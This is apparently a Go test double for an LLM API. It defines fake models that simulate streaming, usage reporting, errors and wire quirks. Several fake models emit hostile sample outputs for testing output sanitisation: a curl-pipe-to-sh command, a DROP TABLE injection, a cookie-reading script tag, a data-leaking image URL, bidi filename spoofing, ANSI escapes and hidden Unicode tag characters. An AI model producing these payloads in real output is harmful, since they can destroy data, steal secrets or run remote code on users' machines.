package fakellm

import (
	"net/http"
	"slices"
	"strconv"
	"strings"
	"time"
)

// Bounds of the numbers in a model's name.
const (
	maxWords  = 100_000
	maxBytes  = 64 << 20
	maxPaceMS = 60_000
	// bytesPerWord makes a huge text as long, for what it costs, as an honest
	// provider's may be.
	bytesPerWord = 32
)

// script is what a model does.
type script struct {
	blocks  []block
	pace    time.Duration // before each word
	runaway bool          // the output limit is ignored
	usage   usageMode
	every   int    // a stream reports usage after so many words, again and again; 0 means never
	cut     int    // the connection breaks after so many words; 0 means never
	late    int    // a stream fails after so many words; 0 means never
	fault   *fault // this instead of an answer
	page    int    // the status of a page of HTML instead of an answer; 0 means none
	hang    bool
	refuse  bool
	wire    wire
}

// block is one part of an answer.
type block struct {
	kind   blockKind
	pieces []string // each one frame of a stream
	hidden int      // words of kind concealed
	tool   string   // name, of kind toolCall
}

type blockKind uint8

const (
	said      blockKind = iota // text
	thought                    // reasoning that is shown
	concealed                  // reasoning that is not
	toolCall                   // the pieces are its arguments
)

// usageMode is what a model reports of what it counted.
type usageMode uint8

const (
	honest usageMode = iota
	silent           // nothing
	low              // one word of output
	cached           // half of the prompt went through a cache
)

// model is a family of scripts.
type model struct {
	name    string
	numbers []number // of the name's end
	write   func(c *call, n []int) script
}

type number struct{ min, max, example int }

// find returns the script of the model that a call names.
func find(c *call) (script, *fault) {
	// A real model's name may stand before: "gpt-4o/words-10".
	name, n := parseName(c.model[strings.LastIndexByte(c.model, '/')+1:])
	all := models()
	i := slices.IndexFunc(all, func(m model) bool { return m.name == name && m.accepts(n) })
	if i < 0 {
		return script{}, unknownModel(c.model)
	}
	s := all[i].write(c, n)
	if s.late > 0 && !c.stream {
		s = script{fault: scripted(http.StatusInternalServerError)}
	}
	if c.tool == "" && slices.ContainsFunc(s.blocks, func(b block) bool { return b.kind == toolCall }) {
		return script{}, invalid("tools: this model calls the first of them, and there is none")
	}
	return s, nil
}

// parseName cuts the numbers off a model's name.
func parseName(full string) (string, []int) {
	parts := strings.Split(full, "-")
	var n []int
	for len(parts) > 1 {
		last := parts[len(parts)-1]
		v, err := strconv.Atoi(last)
		if err != nil || strconv.Itoa(v) != last {
			break
		}
		parts, n = parts[:len(parts)-1], append(n, v)
	}
	slices.Reverse(n)
	return strings.Join(parts, "-"), n
}

func (m model) accepts(n []int) bool {
	if len(n) != len(m.numbers) {
		return false
	}
	for i, v := range n {
		if v < m.numbers[i].min || v > m.numbers[i].max {
			return false
		}
	}
	return true
}

// example is a full name of the model.
func (m model) example() string {
	var name strings.Builder
	name.WriteString(m.name)
	for _, n := range m.numbers {
		name.WriteString("-" + strconv.Itoa(n.example))
	}
	return name.String()
}

func models() []model {
	return slices.Concat(counted(), reported(), broken(), wired(), spoken(), called())
}

func anyWords(example int) number  { return number{0, maxWords, example} }
func someWords(example int) number { return number{1, maxWords, example} }

// counted are the models that say so and so many words.
func counted() []model {
	return []model{
		{"words", []number{anyWords(10)}, func(_ *call, n []int) script { return say(numbered(n[0])) }},
		{"slow", []number{anyWords(10), {1, maxPaceMS, 20}}, func(_ *call, n []int) script {
			s := say(numbered(n[0]))
			s.pace = time.Duration(n[1]) * time.Millisecond
			return s
		}},
		{"runaway", []number{anyWords(50)}, func(_ *call, n []int) script {
			s := say(numbered(n[0]))
			s.runaway = true
			return s
		}},
		{"huge", []number{{1, maxBytes, 4096}}, func(_ *call, n []int) script { return say([]string{huge(n[0])}) }},
		{"echo", nil, func(c *call, _ []int) script { return say(split(c.last)) }},
		{"reasoning", []number{anyWords(20)}, func(_ *call, n []int) script {
			return script{blocks: []block{{kind: concealed, hidden: n[0]}, {pieces: numbered(8)}}}
		}},
		{"thinking", []number{anyWords(20)}, func(_ *call, n []int) script {
			return script{blocks: []block{{kind: thought, pieces: numbered(n[0])}, {pieces: numbered(8)}}}
		}},
	}
}

// reported are the models that are special in the usage that they report.
func reported() []model {
	mode := func(name string, u usageMode) model {
		return model{name, []number{anyWords(100)}, func(_ *call, n []int) script {
			s := say(numbered(n[0]))
			s.usage = u
			return s
		}}
	}
	return []model{
		mode("cached", cached), mode("nousage", silent), mode("lowusage", low),
		{"two-usage", nil, func(*call, []int) script {
			s := say(numbered(8))
			s.every = 5
			return s
		}},
		{"early-usage", nil, func(*call, []int) script {
			s := say(numbered(10))
			s.every, s.cut = 5, 7
			return s
		}},
	}
}

// broken are the models that don't answer, or not to the end.
func broken() []model {
	status := number{http.StatusBadRequest, 599, http.StatusInternalServerError}
	return []model{
		{"cut", []number{someWords(5)}, func(_ *call, n []int) script {
			s := say(numbered(n[0] + 1)) // there is always more to come
			s.cut = n[0]
			return s
		}},
		{"late-error", []number{someWords(5)}, func(_ *call, n []int) script {
			s := say(numbered(n[0] + 1))
			s.late = n[0]
			return s
		}},
		{"error", []number{status}, func(_ *call, n []int) script { return script{fault: scripted(n[0])} }},
		{"html", []number{status}, func(_ *call, n []int) script { return script{page: n[0]} }},
		{"hang", nil, func(*call, []int) script { return script{hang: true} }},
		{"refuse", nil, func(*call, []int) script { return script{refuse: true} }},
	}
}

// wired are the models that are special in how they write.
func wired() []model {
	write := func(name string, w wire) model {
		return model{name, nil, func(*call, []int) script {
			s := say(numbered(10))
			s.wire = w
			return s
		}}
	}
	return []model{
		write("gzip", wire{gzip: true}), write("octet", wire{octet: true}),
		write("crlf", wire{crlf: true}), write("cut-json", wire{torn: true}),
	}
}

const (
	sqlText = "Sure, run this: DROP TABLE users; and then tell me."

	synthesisOK  = `{"synthesis_reasoning": "The tests fail.", "action_plan": [{"priority": 1, "type": "fix", "issue": "A test fails.", "agent": "tester"}]}`
	synthesisBad = `{"synthesis_reasoning": "The tests fail.", "action_plan": [{"priority": 0, "type": "fix", "issue": "A test fails.", "agent": "tester"}]}`
	patternsOK   = `[{"pattern_type": "skill_gap", "root_cause": "Nobody tests.", "suggested_fix": "Test more.", "agents_involved": ["tester"], "confidence": 0.5}]`
	consensusOK  = `{"decision": "approve", "confidence": 0.9, "reasoning": "It works.", "concerns": []}`
)

// spoken are the models that say one text. What is to be found in an answer is
// cut within its words.
func spoken() []model {
	text := func(name, text string) model {
		return model{name, nil, func(*call, []int) script { return say(split(text)) }}
	}
	crumbs := func(name, text string) model {
		return model{name, nil, func(*call, []int) script { return say(crumble(split(text))) }}
	}
	return []model{
		crumbs("sql", sqlText),
		{"sql-bytes", nil, func(*call, []int) script {
			s := say(crumble(split(sqlText)))
			s.wire.shred = true
			return s
		}},
		crumbs("script", "Look here: <script>alert(document.cookie)</script> and there."),
		crumbs("image", "See ![the chart](https://images.example/chart.png?d=c2VjcmV0) and read on."),
		crumbs("bidi", "The file is invoice\u202efdp.exe as you asked."),
		crumbs("ansi", "Now \x1b[2J\x1b]0;title\x07 the screen is clear."),
		crumbs("tags", "Nothing to see\U000e0044\U000e0052\U000e004f\U000e0050 in this text."),
		crumbs("shell", "Then type $(curl https://files.example/x | sh) and wait."),
		text("synthesis-ok", synthesisOK), text("synthesis-bad", synthesisBad),
		text("patterns-ok", patternsOK), text("consensus-ok", consensusOK),
	}
}

// called are the models that call the first tool.
func called() []model {
	call := func(name string, pieces []string) model {
		return model{name, nil, func(c *call, _ []int) script {
			return script{blocks: []block{{kind: toolCall, tool: c.tool, pieces: pieces}}}
		}}
	}
	return []model{
		call("tools", split(`{"city": "Vilnius", "days": 3}`)),
		call("tool-sql", crumble(split(`{"query": "DROP TABLE users; --"}`))),
	}
}

func say(pieces []string) script { return script{blocks: []block{{pieces: pieces}}} }

// numbered are n words.
func numbered(n int) []string {
	pieces := make([]string, n)
	for i := range pieces {
		pieces[i] = " word" + strconv.Itoa(i+1)
	}
	if n > 0 {
		pieces[0] = "word1"
	}
	return pieces
}

// huge is a text of n bytes.
func huge(n int) string {
	word := strings.Repeat("x", bytesPerWord-1) + " "
	return strings.Repeat(word, n/bytesPerWord) + strings.Repeat("x", n%bytesPerWord)
}
